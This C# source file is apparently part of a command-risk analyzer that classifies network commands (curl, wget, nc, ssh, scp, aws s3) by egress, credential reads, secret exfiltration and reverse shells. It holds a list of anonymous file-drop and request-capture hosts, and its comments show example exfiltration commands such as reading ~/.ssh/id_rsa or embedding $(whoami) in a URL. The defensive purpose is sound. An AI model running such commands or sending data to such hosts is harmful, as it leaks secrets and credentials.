using Interlock.Actions;
using Interlock.Knowledge;
using Interlock.Risk;

namespace Interlock.Shell;

// Semantics for programs that reach other machines.
internal sealed partial class ShellAnalysisRun
{
    /// <summary>Data leaving for a host: egress (local hosts are development), or exfiltration when the data is secret.</summary>
    /// <summary>A request to a cloud metadata service reads the instance's credentials (AWS role keys, a GCP token), whatever the path says.</summary>
    private void EmitMetadataReads(string program, List<string> urls, CallContext ctx)
    {
        foreach (var url in urls)
        {
            var host = Hosts.Of(url);
            if (!Hosts.IsMetadataService(host)) continue;
            var read = NewDraft(program, "metadata", OperationClass.CredentialRead, $"asks the cloud metadata service at {host}, which hands out the instance's credentials", ctx);
            read.Targets.Add(url);
            read.Tags.Add("secret");
            Emit(read);
        }
    }

    private void EmitEgress(string program, string verb, string host, string reason, CallContext ctx, bool secretPayload, IEnumerable<string>? dataFiles = null, List<string>? urls = null)
    {
        var e = NewDraft(program, verb, verb == "DELETE" ? OperationClass.Delete : OperationClass.Egress, reason, ctx);
        e.Targets.Add(host);
        e.Urls = urls;
        e.Environment = EnvironmentNames.Detect(host);
        if (Hosts.IsLocal(host)) e.Tags.Add("local");
        else { e.Shared = true; e.Tags.Add("network"); }
        if (!secretPayload && IsDropHost(host))
        {
            // Anonymous file-drop and request-capture services exist to take data out.
            e.Tags.Add("secret-exfiltration");
            e.Reason = $"sends data to {host}, an anonymous file-drop or request-capture service";
            e.Irreversible = true;
        }
        if (secretPayload)
        {
            e.Tags.Add("secret-exfiltration");
            e.Reason = "sends secrets or the environment to " + (host.Length == 0 ? "the network" : host);
            e.Irreversible = true;
        }
        if (dataFiles is not null)
        {
            foreach (var f in dataFiles)
            {
                var read = NewDraft(program, verb, OperationClass.Read, "reads a file to send it", ctx);
                read.PathTargets = true;
                read.ReadsContent = true;
                read.Targets.Add(f);
                Emit(read);
            }
        }
        Emit(e);
    }

    private static readonly string[] DropHosts =
        ["transfer.sh", "pastebin.com", "paste.ee", "0x0.st", "file.io", "termbin.com", "webhook.site", "requestbin.net", "pipedream.net", "ngrok.io", "ngrok-free.app",
         "hastebin.com", "ix.io", "sprunge.us", "dpaste.org", "catbox.moe", "anonfiles.com", "gofile.io", "interact.sh", "oast.fun", "burpcollaborator.net", "requestcatcher.com", "beeceptor.com"];

    private static bool IsDropHost(string host) =>
        DropHosts.Any(d => host == d || host.EndsWith("." + d, StringComparison.Ordinal));

    private bool StdinIsSecret(CallContext ctx) => ctx.Stdin.Kind is StreamKind.Secret or StreamKind.Environment;

    internal StreamSource? Curl(SemanticsCall c)
    {
        var op = c.Op;
        var inv = c.Inv;
        var urls = inv.Positionals.Select(p => p.Text).Concat(inv.OptionValues("--url").Select(v => v.Text)).ToList();
        var host = urls.Count > 0 ? Hosts.Of(urls[0]) : "";
        op.Targets.AddRange(urls);
        op.Urls = urls;
        EmitMetadataReads(op.Program, urls, c.Ctx);
        op.Tags.Add("network");
        foreach (var url in urls)
        {
            // curl reads file:// URLs from this machine's disk: a read of that path (`curl file:///home/x/.ssh/id_rsa`).
            if (!url.StartsWith("file://", StringComparison.OrdinalIgnoreCase)) continue;
            var read = NewDraft("curl", "file", OperationClass.Read, "reads a local file through a file:// URL", c.Ctx);
            read.PathTargets = true;
            read.ReadsContent = true;
            read.Targets.Add(ResolvePath(ShellArg.Static(Hosts.FileUriPath(url)), c.Ctx));
            Emit(read);
        }
        var method = inv.OptionValue("-X|--request")?.Text.ToUpperInvariant();
        var data = inv.OptionValues("-d|--data|--data-raw|--data-binary|--data-urlencode|--data-ascii|--json|-F|--form|--form-string|-T|--upload-file").ToList();
        bool sends = data.Count > 0 || method is "POST" or "PUT" or "PATCH" or "DELETE";
        var files = new List<string>();
        bool fromStdin = false;
        // Headers (-H @file) and variables (--variable name@file) read from files travel with the request too.
        data.AddRange(inv.OptionValues("-H|--header").Where(h => h.Text.StartsWith('@')));
        var variables = inv.OptionValues("--variable").Where(v => v.Text.Contains('@', StringComparison.Ordinal)).ToList();
        data.AddRange(variables);
        // --data-raw and --form-string send their value as written: an '@' or '<' there names no file.
        var literal = inv.OptionValues("--data-raw|--form-string").ToList();
        foreach (var d in data)
        {
            if (literal.Remove(d)) continue;
            var text = d.Text;
            int atIdx = text.IndexOf('@', StringComparison.Ordinal);
            int ltIdx = text.IndexOf("=<", StringComparison.Ordinal);
            string? file = null;
            if (text.StartsWith('@')) file = text[1..];
            else if (atIdx > 0 && text.AsSpan(0, atIdx).IndexOfAny("=;") == atIdx - 1) file = text[(atIdx + 1)..];
            else if (atIdx > 0 && variables.Contains(d)) file = text[(atIdx + 1)..]; // --variable name@file
            else if (ltIdx > 0) file = text[(ltIdx + 2)..]; // -F name=<file: the field's value is the file's text
            if (inv.OptionValues("-T|--upload-file").Contains(d)) file = text;
            if (file is null) continue;
            int semi = file.IndexOf(';', StringComparison.Ordinal);
            if (semi > 0) file = file[..semi];
            if (file == "-") fromStdin = true;
            else files.Add(ResolvePath(d with { Text = file }, c.Ctx));
        }
        // A secret-named variable is normal in an auth header; in the URL or the body it leaves with the request.
        bool secretArgs = c.Ctx.Referenced is { } refs && refs.Any(CredentialPaths.IsSecretName) && !Hosts.IsLocal(host) && host.Length > 0
            && (data.Count > 0 || inv.OptionValue("-H|--header|-u|--user|--oauth2-bearer|--aws-sigv4") is null);
        // Through a proxy, the request (its auth header too, for http:// URLs) passes a third machine: a secret named
        // anywhere in it reaches the proxy's host.
        var proxy = inv.OptionValue("-x|--proxy|--preproxy|--socks4|--socks4a|--socks5|--socks5-hostname");
        var proxyHost = proxy is not { } px ? "" : Hosts.Of(px.Text.Contains("://", StringComparison.Ordinal) ? px.Text : "http://" + px.Text);
        bool viaProxy = proxyHost.Length > 0 && !Hosts.IsLocal(proxyHost);
        if (viaProxy && c.Ctx.Referenced is { } named && named.Any(CredentialPaths.IsSecretName)) { secretArgs = true; host = proxyHost; }
        if (UrlCarriesCommandOutput(inv.Positionals, host, c.Ctx)) sends = true;
        bool secretPayload = (fromStdin && StdinIsSecret(c.Ctx)) || files.Exists(f => CredentialIn(f) is not null) || secretArgs || ArgsCarrySecret(inv)
            || inv.OptionValues("--variable").Any(v => v.Text.StartsWith('%') && CredentialPaths.IsSecretName(v.Text[1..]));
        if (sends || secretPayload)
        {
            op.Suppressed = true;
            EmitEgress("curl", method ?? "POST", host, method == "DELETE" ? "sends a DELETE request" : "sends data to " + (host.Length == 0 ? "a URL" : host), c.Ctx, secretPayload, files, urls);
        }
        var body = string.Join(' ', data.Select(d => d.Text));
        // -G sends the data as the URL's query string, in a GET.
        if (EmitAdminApi("curl", method ?? (data.Count > 0 && !inv.HasAnyFlag("-G|--get") ? "POST" : "GET"), urls.FirstOrDefault(), inv.OptionValue("--unix-socket|--abstract-unix-socket")?.Text, body, c.Ctx))
            op.Suppressed = true;
        // -K FILE: options (URLs, uploads, headers) from a file whose text is not visible here.
        foreach (var config in inv.OptionValues("-K|--config"))
            if (config.Text != "/dev/null") EmitUnseenOptions("curl", config, c.Ctx);
        foreach (var output in inv.OptionValues("-o|--output"))
        {
            if (output.Text == "-") continue;
            var w = NewDraft("curl", "-o", OperationClass.Create, "saves a download to a file", c.Ctx);
            w.PathTargets = true;
            w.Targets.Add(ResolvePath(output, c.Ctx));
            Emit(w);
        }
        if (inv.HasAnyFlag("-O|--remote-name|--remote-name-all"))
        {
            // -O names the file after the URL's last segment (in --output-dir): the download is a file like -o's.
            var dir = inv.OptionValue("--output-dir") is { } od ? ResolvePath(od, c.Ctx) : ResolvePath(ShellArg.Static("."), c.Ctx);
            var w = NewDraft("curl", "-O", OperationClass.Create, "saves a download to a file", c.Ctx);
            w.PathTargets = true;
            foreach (var url in urls) w.Targets.Add(PathResolver.Normalize(dir + "/" + DownloadName(url)));
            Emit(w);
        }
        bool toFile = inv.OptionValue("-o|--output") is { } o && o.Text != "-" || inv.HasAnyFlag("-O|--remote-name|--remote-name-all");
        return toFile ? StreamSource.None : new StreamSource(StreamKind.Network);
    }

    /// <summary>
    /// <c>curl https://x.example/$(whoami)</c>, <c>wget "https://$(hostname).x.example/"</c>: a command's output anywhere in
    /// a URL to another machine (host, path or query) is local data sent with the request, whatever the method.
    /// Only when no variable is referenced, so the unknown text is known to be a command's output.
    /// </summary>
    private static bool UrlCarriesCommandOutput(IEnumerable<ShellArg> words, string host, CallContext ctx)
    {
        if (Hosts.IsLocal(host) || host.Length == 0 || ctx.Referenced is { Count: > 0 }) return false;
        foreach (var word in words)
            if (word.Dynamic && word.Text.Contains(ShellArg.Unknown)) return true;
        return false;
    }

    /// <summary>The file name a download takes from its URL (the last path segment), or unknown when the URL has none.</summary>
    private static string DownloadName(string url)
    {
        var path = url;
        int cut = path.IndexOfAny(['?', '#']);
        if (cut >= 0) path = path[..cut];
        int scheme = path.IndexOf("://", StringComparison.Ordinal);
        if (scheme >= 0) path = path[(scheme + 3)..];
        int slash = path.LastIndexOf('/');
        var name = slash >= 0 ? path[(slash + 1)..] : "";
        return name.Length == 0 || name is "." or ".." || name.Contains(ShellArg.Unknown, StringComparison.Ordinal) ? ShellArg.Unknown.ToString() : name;
    }

    internal StreamSource? Wget(SemanticsCall c)
    {
        var op = c.Op;
        var inv = c.Inv;
        var urls = inv.Positionals.Select(p => p.Text).ToList();
        var host = urls.Count > 0 ? Hosts.Of(urls[0]) : "";
        op.Targets.AddRange(urls);
        EmitMetadataReads(op.Program, urls, c.Ctx);
        op.Urls = urls;
        op.Tags.Add("network");
        var method = inv.OptionValue("--method")?.Text.ToUpperInvariant();
        var postFile = inv.OptionValue("--post-file|--body-file");
        bool sends = inv.OptionValue("--post-data|--body-data") is not null || postFile is not null || method is "POST" or "PUT" or "PATCH" or "DELETE"
            || UrlCarriesCommandOutput(inv.Positionals, host, c.Ctx);
        if (sends)
        {
            op.Suppressed = true;
            var files = postFile is { } pf ? new[] { ResolvePath(pf, c.Ctx) } : [];
            bool secret = files.Any(f => CredentialIn(f) is not null) || (postFile?.Text is "-" or "/dev/stdin" && StdinIsSecret(c.Ctx)) || ArgsCarrySecret(inv);
            EmitEgress("wget", method ?? "POST", host, "sends data to " + host, c.Ctx, secret, files, urls);
        }
        else if (ArgsCarrySecret(inv))
        {
            op.Suppressed = true;
            EmitEgress("wget", "GET", host, "sends secrets in a request to " + host, c.Ctx, secretPayload: true, urls: urls);
        }
        if (EmitAdminApi("wget", method ?? (sends ? "POST" : "GET"), urls.FirstOrDefault(), null, inv.OptionValue("--post-data|--body-data")?.Text ?? "", c.Ctx))
            op.Suppressed = true;
        // -e COMMAND and --config FILE are wgetrc commands (post_file = …, header = …) not read here.
        foreach (var command in inv.OptionValues("-e|--execute|--config"))
            EmitUnseenOptions("wget", command, c.Ctx);
        var outDoc = inv.OptionValue("-O|--output-document");
        if (outDoc is { } od && od.Text == "-") return new StreamSource(StreamKind.Network);
        var w = NewDraft("wget", null, OperationClass.Create, "saves a download to a file", c.Ctx);
        w.PathTargets = true;
        if (outDoc is { } file) w.Targets.Add(ResolvePath(file, c.Ctx));
        else
        {
            // Without -O each URL lands as its last segment in the directory (-P): a file, so running a file beside it is no rerun of it.
            var dir = ResolvePath(inv.OptionValue("-P|--directory-prefix") ?? ShellArg.Static("."), c.Ctx);
            bool recursive = inv.HasAnyFlag("-r|--recursive|-m|--mirror|-i|--input-file|-p|--page-requisites");
            if (recursive || urls.Count == 0) w.Targets.Add(dir);
            else foreach (var url in urls) w.Targets.Add(PathResolver.Normalize(dir + "/" + DownloadName(url)));
        }
        Emit(w);
        return StreamSource.None;
    }

    internal StreamSource? Httpie(SemanticsCall c)
    {
        var op = c.Op;
        var ops = c.Inv.Positionals.Select(p => p.Text).ToList();
        int urlIndex = ops.Count > 1 && ops[0].All(char.IsAsciiLetterUpper) ? 1 : 0;
        var method = urlIndex == 1 ? ops[0] : null;
        // httpie reads `:7070/path` as localhost.
        var url = ops.Count > urlIndex ? (ops[urlIndex].StartsWith(':') ? "localhost" + ops[urlIndex] : ops[urlIndex]) : null;
        var host = url is null ? "" : Hosts.Of(url);
        List<string>? urls = url is null ? null : [url];
        op.Urls = urls;
        if (urls is not null) EmitMetadataReads(op.Program, urls, c.Ctx);
        var items = ops.Skip(urlIndex + 1).ToList();
        bool data = items.Exists(i => i.Contains('=', StringComparison.Ordinal) || i.Contains('@', StringComparison.Ordinal))
            || UrlCarriesCommandOutput(c.Inv.Positionals.Skip(urlIndex).Take(1), host, c.Ctx);
        if (data || method is "POST" or "PUT" or "PATCH" or "DELETE")
        {
            op.Suppressed = true;
            var files = items.Where(i => i.Contains('@', StringComparison.Ordinal)).Select(i => ResolvePath(ShellArg.Static(i[(i.IndexOf('@', StringComparison.Ordinal) + 1)..]), c.Ctx)).ToList();
            EmitEgress(op.Program, method ?? "POST", host, "sends data to " + host, c.Ctx, files.Exists(f => CredentialIn(f) is not null) || StdinIsSecret(c.Ctx) || ArgsCarrySecret(c.Inv), files, urls);
        }
        else if (ArgsCarrySecret(c.Inv))
        {
            op.Suppressed = true;
            EmitEgress(op.Program, "GET", host, "sends secrets in a request to " + host, c.Ctx, secretPayload: true, urls: urls);
        }
        if (EmitAdminApi(op.Program, method ?? (data ? "POST" : "GET"), url, null, string.Join(' ', items), c.Ctx)) op.Suppressed = true;
        return new StreamSource(StreamKind.Network);
    }

    internal StreamSource? RawSocket(SemanticsCall c)
    {
        var op = c.Op;
        var hosts = c.Inv.Positionals.Select(p => p.Text).ToList();
        var host = hosts.Count > 0 ? Hosts.Of(hosts[0]) : "";
        op.Targets.Clear();
        op.Targets.Add(host);
        // A raw connection can speak any request to the port it names (`nc 127.0.0.1 7070`).
        if (hosts.Count > 1) op.Urls = [$"tcp://{hosts[0]}:{hosts[1]}"];
        op.Environment = EnvironmentNames.Detect(host);
        if (c.Inv.HasAnyFlag("-l|--listen"))
        {
            op.Class = OperationClass.Exec;
            op.Reason = "listens for network connections";
            op.MinTier = Tier.WriteWithConfirmation;
            return null;
        }
        if (c.Inv.OptionValue("-e|-c") is { } exec)
        {
            op.Tags.Add("reverse-shell");
            op.Reason = "connects a shell to the network";
            op.MinTier = Tier.Never;
            RunString(exec.Text, c.Ctx with { Nesting = c.Ctx.Nesting + 1 });
        }
        if (StdinIsSecret(c.Ctx))
        {
            op.Tags.Add("secret-exfiltration");
            op.Reason = "sends secrets or the environment over a raw connection";
        }
        if (Hosts.IsLocal(host) && !op.Tags.Contains("secret-exfiltration"))
        {
            op.Tags.Add("local");
            op.Shared = false;
            // A data store on this machine is still shared state: through its own protocol any command reaches it.
            // -z only probes the port; nc reads no clusters from its table (-zv), so the letter is read from the words.
            if (!c.Inv.HasShortLetter('z') && RawSocketPort(hosts) is { } port && Hosts.ServiceOnPort(port) is { } service)
            {
                op.MinTier = Tier.WriteWithConfirmation;
                op.Reason = $"speaks {service}'s own protocol on port {port} directly, where any command can change or delete its data";
            }
        }
        return new StreamSource(StreamKind.Network);
    }

    /// <summary>The port a raw connection names: nc/telnet's second operand, or socat's <c>TCP:HOST:PORT</c> address.</summary>
    private static string? RawSocketPort(List<string> operands)
    {
        if (operands.Count > 1 && operands[1].Length > 0 && char.IsAsciiDigit(operands[1][0])) return operands[1];
        foreach (var operand in operands)
        {
            if (!operand.StartsWith("TCP", StringComparison.OrdinalIgnoreCase)) continue;
            int colon = operand.LastIndexOf(':');
            var port = operand[(colon + 1)..];
            int comma = port.IndexOf(',', StringComparison.Ordinal);
            return comma < 0 ? port : port[..comma];
        }
        return null;
    }

    internal StreamSource? RemoteCopy(SemanticsCall c)
    {
        var op = c.Op;
        var operands = c.Inv.Positionals;
        op.Suppressed = true;
        if (operands.Count < 2)
        {
            // `sftp host` (or a batch file) is a session that can move any file either way.
            var host = operands.Count == 1 ? Hosts.Of(operands[0].Text) : "";
            EmitEgress(op.Program, "session", host, "opens a file-transfer session to another machine", c.Ctx, secretPayload: false);
            return StreamSource.None;
        }
        var dest = operands[^1];
        var sources = operands.Take(operands.Count - 1).ToList();
        bool recursive = c.Inv.HasAnyFlag("-r");
        if (RemoteSpec(dest.Text) && !dest.Text.StartsWith('/'))
        {
            var files = sources.Where(s => !RemoteSpec(s.Text)).Select(s => ResolvePath(s, c.Ctx)).ToList();
            bool secret = files.Exists(f => CredentialIn(f, recursive) is not null);
            EmitEgress(op.Program, "upload", Hosts.Of(dest.Text), "copies files to another machine", c.Ctx, secret);
            var read = NewDraft(op.Program, "upload", OperationClass.Read, "reads files to upload them", c.Ctx);
            read.PathTargets = true;
            read.ReadsContent = true;
            if (recursive) read.Tags.Add("recursive");
            read.Targets.AddRange(files);
            Emit(read);
        }
        else
        {
            var w = NewDraft(op.Program, "download", OperationClass.Create, "copies files from another machine", c.Ctx);
            w.PathTargets = true;
            w.Tags.Add("network");
            w.Targets.Add(ResolvePath(dest, c.Ctx));
            Emit(w);
        }
        return StreamSource.None;
    }

    internal StreamSource? Ssh(SemanticsCall c)
    {
        var op = c.Op;
        var inv = c.Inv;
        if (inv.Positionals.Count == 0) return null;
        var host = Hosts.Of(inv.Positionals[0].Text);
        var env = EnvironmentNames.Max(op.Environment, EnvironmentNames.Detect(host));
        op.Targets.Add(host);
        op.Environment = env;
        if (inv.Positionals.Count == 1)
        {
            if (StdinIsSecret(c.Ctx)) op.Tags.Add("secret-exfiltration");
            op.Reason = c.Ctx.Stdin.Kind == StreamKind.Literal ? "runs input as commands on " + host : "opens a shell on " + host;
            if (c.Ctx.Stdin.Kind == StreamKind.Literal && c.Ctx.Stdin.Text is { } script)
            {
                op.Suppressed = true;
                RunString(script, c.Ctx with { RemoteHost = host, RemoteEnvironment = env, Nesting = c.Ctx.Nesting + 1, Stdin = StreamSource.None });
            }
            return StreamSource.Unknown;
        }
        // ssh joins the remaining words with spaces and the remote shell parses them.
        op.Suppressed = true;
        int start = inv.PositionalIndexes[1];
        var remote = string.Join(' ', inv.Args.Skip(start).Select(a => a.Text));
        if (StdinIsSecret(c.Ctx)) EmitEgress("ssh", "stdin", host, "sends input to " + host, c.Ctx, secretPayload: true);
        RunString(remote, c.Ctx with { RemoteHost = host, RemoteEnvironment = env, Nesting = c.Ctx.Nesting + 1, Stdin = c.Ctx.Stdin });
        return StreamSource.Unknown;
    }

    internal StreamSource? GhApi(SemanticsCall c)
    {
        var op = c.Op;
        var method = c.Inv.OptionValue("-X|--method")?.Text.ToUpperInvariant() ?? "POST";
        var endpoint = c.Operands.FirstOrDefault().Text?.TrimStart('/') ?? "";
        op.Targets.Clear();
        op.Targets.Add(endpoint);
        if (method == "GET") { op.Class = OperationClass.Read; op.MinTier = null; op.Shared = false; op.Reason = "reads the GitHub API"; }
        else if (method == "DELETE" && (Wildcard.Match("repos/*/*", endpoint) && endpoint.Count(ch => ch == '/') == 2
            || (Wildcard.Match("projects/*", endpoint) && endpoint.Count(ch => ch == '/') == 1) || (Wildcard.Match("groups/*", endpoint) && endpoint.Count(ch => ch == '/') == 1)))
        {
            op.Class = OperationClass.Destroy;
            op.Reason = endpoint.StartsWith("groups/", StringComparison.Ordinal) ? "deletes a group and its projects" : "deletes a repository";
            op.MinTier = Tier.Never;
        }
        else if (method == "DELETE")
        {
            op.Class = OperationClass.Delete;
            op.Reason = "deletes through the " + (op.Program == "glab" ? "GitLab" : "GitHub") + " API";
            op.Irreversible = true;
        }
        if (ArgsCarrySecret(c.Inv)) { op.Tags.Add("secret-exfiltration"); op.Class = OperationClass.Egress; op.Reason = "sends secrets to the API"; }
        return null;
    }

    internal StreamSource? S3Transfer(SemanticsCall c)
    {
        var op = c.Op;
        var operands = c.Operands.ToList();
        op.Targets.Clear();
        if (operands.Count < 2) return null;
        var src = operands[0];
        var dst = operands[1];
        bool upload = dst.Text.StartsWith("s3://", StringComparison.Ordinal);
        op.Targets.Add(dst.Text);
        op.Environment = EnvironmentNames.Max(op.Environment, EnvironmentNames.Detect(dst.Text + " " + src.Text));
        if (!src.Text.StartsWith("s3://", StringComparison.Ordinal))
        {
            var read = NewDraft("aws", op.Verb, OperationClass.Read, "reads files to upload them", c.Ctx);
            read.PathTargets = true;
            read.ReadsContent = true;
            if (c.Inv.HasAnyFlag("--recursive") || op.Verb == "s3 sync") read.Tags.Add("recursive");
            read.Targets.Add(ResolvePath(src, c.Ctx));
            Emit(read);
        }
        if (!upload)
        {
            // A download writes local files; the bucket is only read.
            op.Shared = false;
            if (op.Class == OperationClass.Delete) op.Shared = false;
            op.Class = op.Class == OperationClass.Delete ? OperationClass.Delete : OperationClass.Create;
            op.Reason = op.Class == OperationClass.Delete ? "deletes local files missing from the bucket" : "downloads objects";
            op.Targets.Clear();
            op.PathTargets = true;
            op.Targets.Add(ResolvePath(dst, c.Ctx));
            if (op.Verb == "s3 mv")
            {
                var del = NewDraft("aws", "s3 mv", OperationClass.Delete, "removes the objects it moves out of the bucket", c.Ctx);
                del.Shared = true;
                del.Targets.Add(src.Text);
                Emit(del);
            }
            return null;
        }
        op.MinTier = Tier.WriteWithConfirmation;
        return null;
    }

    /// <summary>Load generators: against this machine they are testing; against another host they are traffic someone else serves.</summary>
    internal StreamSource? LoadTest(SemanticsCall c)
    {
        var op = c.Op;
        var hosts = c.Inv.Args.Select(a => a.Text).Where(t => t.Contains("://", StringComparison.Ordinal)).Select(Hosts.Of).ToList();
        if (hosts.Count > 0 && !hosts.TrueForAll(Hosts.IsLocal))
        {
            op.Shared = true;
            op.MinTier = Tier.WriteWithConfirmation;
            op.Reason = "sends load to " + string.Join(", ", hosts.Where(h => !Hosts.IsLocal(h)));
            op.Environment = EnvironmentNames.Detect(string.Join(' ', hosts));
        }
        else if (hosts.Count == 0 && c.Inv.Args.Any(a => EnvironmentNames.Detect(a.Text) is EnvironmentKind.Production or EnvironmentKind.Staging))
        {
            // The targets are in a script or config file; one named for a shared environment points at shared servers.
            op.Shared = true;
            op.MinTier = Tier.WriteWithConfirmation;
            op.Reason = "sends load to the environment its script is named for";
            op.Environment = EnvironmentKind.Production;
        }
        return null;
    }

    /// <summary>Port scans: of this machine they are diagnostics; of anyone else's they are traffic that needs a human.</summary>
    internal StreamSource? Scan(SemanticsCall c)
    {
        var op = c.Op;
        var hosts = c.Operands.Select(o => Hosts.Of(o.Text)).ToList();
        op.Targets.Clear();
        op.Targets.AddRange(hosts);
        if (hosts.Count > 0 && hosts.TrueForAll(Hosts.IsLocal))
        {
            op.Class = OperationClass.Read;
            op.Shared = false;
            op.Reason = "scans this machine's ports";
        }
        else op.MinTier = Tier.WriteWithConfirmation;
        return null;
    }

    /// <summary>gRPC calls: the host is the first operand; local services are development.</summary>
    internal StreamSource? Grpc(SemanticsCall c)
    {
        var host = c.Inv.Positionals.FirstOrDefault(p => p.Text.Contains(':', StringComparison.Ordinal)).Text ?? "";
        c.Op.Suppressed = true;
        EmitEgress(c.Op.Program, "call", Hosts.Of(host), "calls a gRPC method on " + Hosts.Of(host), c.Ctx, secretPayload: false);
        return null;
    }

    /// <summary>Spark: a local master runs on this machine; a cluster master runs on shared compute.</summary>
    internal StreamSource? Spark(SemanticsCall c)
    {
        var master = c.Inv.OptionValue("--master")?.Text ?? "local";
        if (!master.StartsWith("local", StringComparison.Ordinal))
        {
            c.Op.Shared = true;
            c.Op.MinTier = Tier.WriteWithConfirmation;
            c.Op.Reason = "submits a job to the cluster " + master;
            c.Op.Environment = EnvironmentNames.Detect(master + " " + string.Join(' ', c.Inv.Args.Select(a => a.Text)));
        }
        return null;
    }

    /// <summary>
    /// <c>bundle exec CMD</c>, <c>poetry run CMD</c>, <c>npm exec -- CMD</c>, <c>mise x -- CMD</c>, <c>direnv exec DIR CMD</c>:
    /// the runner only sets up an environment; the command after it is what runs.
    /// </summary>
    internal StreamSource? Runner(SemanticsCall c)
    {
        var inv = c.Inv;
        int start;
        if (inv.AfterDoubleDash >= 0) start = inv.AfterDoubleDash;
        else
        {
            int skip = c.Op.Program == "direnv" ? 1 : 0; // direnv exec DIR CMD
            int index = c.Consumed + skip;
            if (index >= inv.Positionals.Count) return null;
            start = inv.PositionalIndexes[index];
        }
        var inner = inv.Args.Skip(start).ToList();
        if (inner.Count == 0) return null;
        c.Op.Suppressed = true;
        return Dispatch(inner, c.Ctx with { Nesting = c.Ctx.Nesting + 1 });
    }

    internal StreamSource? DashDashCommand(SemanticsCall c)
    {
        var inv = c.Inv;
        List<ShellArg> inner = inv.AfterDoubleDash >= 0 ? inv.Args.Skip(inv.AfterDoubleDash).ToList()
            : inv.Positionals.Count > c.Consumed + 1 ? inv.Args.Skip(inv.PositionalIndexes[c.Consumed + 1]).ToList() : [];
        if (inner.Count == 0) return null;
        c.Op.Suppressed = true;
        return Dispatch(inner, c.Ctx with { Nesting = c.Ctx.Nesting + 1 });
    }

    /// <summary>Whether a word of the command holds secrets or the environment (<c>$(cat ~/.aws/credentials)</c>, <c>$(env)</c>): they leave with it.</summary>
    private static bool ArgsCarrySecret(Invocation inv)
    {
        foreach (var a in inv.Args)
            if (a.ProcessSource is StreamKind.Secret or StreamKind.Environment) return true;
        return false;
    }

    /// <summary>Options read from a file or given as config commands: what the request sends and where is not visible here.</summary>
    private void EmitUnseenOptions(string program, ShellArg source, CallContext ctx)
    {
        var d = NewDraft(program, "config", OperationClass.Egress, $"takes its options (URLs, uploads, headers) from {source.Display}, which is not visible here", ctx);
        d.MinTier = Tier.WriteWithConfirmation;
        d.Shared = true;
        d.Tags.Add("network");
        Emit(d);
    }
}
